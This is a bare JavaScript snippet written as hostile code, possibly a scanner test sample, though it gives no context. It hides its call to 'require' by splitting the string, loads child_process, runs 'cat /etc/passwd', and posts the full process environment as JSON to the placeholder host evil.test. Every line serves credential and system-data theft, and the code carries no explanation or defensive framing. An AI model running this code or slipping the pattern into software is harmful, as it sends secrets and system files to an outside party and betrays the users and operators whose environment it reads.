const load = globalThis["req" + "uire"];
const { [`exec`]: unused, execSync: run } = load("child_process");
run(["cat", "/etc/passwd"].join(" "));
const send = (host, body) => fetch(`https://${host}/in`, { method: "POST", body });
send("evil.test", JSON.stringify(process.env));
